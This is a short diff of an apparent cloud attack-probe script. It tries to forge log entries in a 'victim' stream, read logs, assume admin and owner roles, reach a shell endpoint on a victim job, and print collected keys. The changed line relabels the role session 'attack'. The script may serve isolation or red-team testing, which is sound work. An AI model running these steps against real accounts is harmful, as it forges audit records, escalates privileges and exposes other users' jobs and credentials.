@@ -83,7 +83,7 @@ say("catalogue", target("trainyard", "QueryCatalogue", Statement="SELECT 1"))
 say("write-log", target("logs", "PutLogEvents", logGroupName=group, logStreamName="victim/algo-1-1", logEvents=[{"timestamp": 1, "message": "forged"}]))
 say("read-logs", target("logs", "FilterLogEvents", logGroupName=group))
 for role in ("admin", "trainer", "TrainyardOwner"):
-    say("assume-" + role, form("sts", "2011-06-15", Action="AssumeRole", RoleSessionName="x", RoleArn=f"arn:aws:iam::{account}:role/{role}"))
+    say("assume-" + role, form("sts", "2011-06-15", Action="AssumeRole", RoleSessionName="attack", RoleArn=f"arn:aws:iam::{account}:role/{role}"))
 say("shell", call("trainyard", "GET", "/trainyard/shell", "host=0&job=victim"))
 say("batch", call("batch", path="/v1/describejobs", body=b'{"jobs":["x"]}', headers={"Content-Type": "application/json"}))
 print("KEYS", json.dumps(keys), flush=True)
